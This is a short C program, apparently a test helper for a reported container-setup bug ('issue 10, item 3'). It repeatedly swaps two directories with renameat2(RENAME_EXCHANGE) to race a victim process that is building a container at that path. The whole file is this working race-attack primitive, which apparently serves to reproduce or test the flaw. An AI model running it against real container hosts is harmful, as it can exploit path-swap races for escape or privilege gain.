/* The attacker of issue 10, item 3: swap two directories of its own in a
   loop with renameat2(RENAME_EXCHANGE), so that a path names one, then the
   other, while a victim sets up a container there.

   Usage: swap A B SECONDS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char **argv)
{
   if (argc != 4) {
      fprintf(stderr, "usage: swap A B SECONDS\n");
      return 64;
   }
   time_t end = time(NULL) + atoi(argv[3]);
   unsigned long n = 0;
   while (time(NULL) < end) {
      if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE)) {
         perror("renameat2");
         return 1;
      }
      n++;
   }
   printf("%lu swaps\n", n);
   return 0;
}
